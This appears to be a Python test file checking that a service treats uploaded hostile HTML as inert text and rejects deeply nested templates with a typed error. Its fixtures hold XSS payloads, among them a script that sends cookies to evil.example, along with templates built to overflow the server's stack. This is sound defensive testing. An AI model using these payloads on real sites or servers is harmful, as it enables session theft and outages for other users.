"""Hostile input: it is read as text, or gets a typed error that leaves the server standing."""

from __future__ import annotations

from tests.callers import Credential, Tenant
from tests.system.test_journey import answer
from tests.transports import Ways

HOSTILE = """<!doctype html><html><head><title>Recipe<script>alert("title")</script></title>
<script>document.location = "https://evil.example/?" + document.cookie; // zebrastripe</script>
<style>body { background: url("https://evil.example/pixel") } /* okapi */</style></head>
<body onload="alert('quagga')"><h1>Bread</h1>
<p>Sourdough rests <b onclick="steal()">eighteen hours</b> before it is baked.</p>
<img src=x onerror="alert('kudu')"><iframe src="javascript:alert('nyala')"></iframe>
<a href="javascript:alert(1)">The oven is heated to 250 degrees.</a>
<svg><script>alert('bongo')</script></svg><noscript>gnu</noscript><template><p>impala</p></template>
<p>&lt;script&gt;alert("shown as text")&lt;/script&gt;</p></body></html>"""


def test_html_with_scripts_is_read_as_text(ways: Ways, tenant: Tenant) -> None:
    headers = tenant.headers(Credential.USER)
    operation = ways.http.put(
        "/v1/uploads", params={"source_key": "bread.html"}, content=HOSTILE.encode(), headers=headers
    ).json()
    done = ways.call(
        "Operations/WaitOperation", {"name": operation["name"], "timeout": "60s"}, headers
    ).message
    document = done["response"]["document"]
    content = ways.call("KnowledgeService/GetDocumentContent", {"name": document["name"]}, headers).messages
    text = "".join(piece["text"] for piece in content)
    for hidden in (
        "zebrastripe",
        "okapi",
        "quagga",
        "steal",
        "kudu",
        "nyala",
        "bongo",
        "evil.example",
        "onclick",
    ):
        assert hidden not in text, hidden
    # The author's text remains in the quote. Clients must display the quote as plain text.
    assert '<script>alert("shown as text")</script>' in text
    turn = answer(ways, headers, "How long does sourdough rest before it is baked?")
    assert "Sourdough rests eighteen hours before it is baked." in turn["terminalEvent"]["answer"]["text"]
    assert (
        ways.call(
            "KnowledgeService/Search", {"terms": ["zebrastripe"], "mode": "SEARCH_MODE_TEXT"}, headers
        ).message
        == {}
    )


DEEP = {
    "minus": "{{ " + "-" * 30_000 + "1 }}",
    "plus": "{{ 1" + "+1" * 20_000 + " }}",
    "filters": "{{ 1" + "|abs" * 10_000 + " }}",
    "conditions": "{{ 1 " + "if 1 else 1 " * 4000 + "}}",
    "blocks": "{% if 1 %}" + "{% elif 1 %}" * 4000 + "{% endif %}",
}


def test_templates_that_would_overflow_the_stack_of_the_server(ways: Ways, tenant: Tenant) -> None:
    """Five in succession ended all servers of an instance, for all tenants."""
    headers = tenant.headers(Credential.ADMIN)
    for name, text in DEEP.items():
        mapping = f"""connection = "a"
collection = "a"
queries.a = {{ sql = "SELECT 1 AS a", columns = {{ a = "integer" }} }}
documents.a = {{ query = "a", key = "1", text = "{text}" }}
"""
        source = {"mapping": mapping}
        for method, request in (
            ("PreviewSource", source),
            ("CreateSource", {"sourceId": "a", "source": source}),
        ):
            problem = ways.call(f"AdminService/{method}", request, headers).problem
            assert problem is not None, name
            assert problem["details"][0]["reason"] == "INVALID_FIELD", problem
            assert "documents.a.text: " in problem["message"], problem
            assert " more than " in problem["message"], problem
    assert ways.call("AuthService/GetMe", {}, headers).problem is None
